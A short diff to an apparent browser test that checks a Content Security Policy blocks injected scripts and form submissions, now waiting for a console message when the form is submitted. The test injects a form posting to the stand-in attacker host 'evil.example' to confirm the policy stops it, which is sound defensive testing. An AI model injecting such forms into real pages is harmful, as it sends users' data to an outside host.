@@ -56,7 +56,8 @@ def test_nothing_else_runs_and_forms_go_nowhere_else(browser, address):
     page.evaluate(
         "document.body.append(Object.assign(document.createElement('form'), {action: 'https://evil.example/', id: 'f'}))"
     )
-    page.evaluate("document.getElementById('f').submit()")
+    with page.expect_console_message():
+        page.evaluate("document.getElementById('f').submit()")
 
     assert page.evaluate("window.ran") is None
     assert len([text for text in page.complaints if "Content Security Policy" in text]) == 2
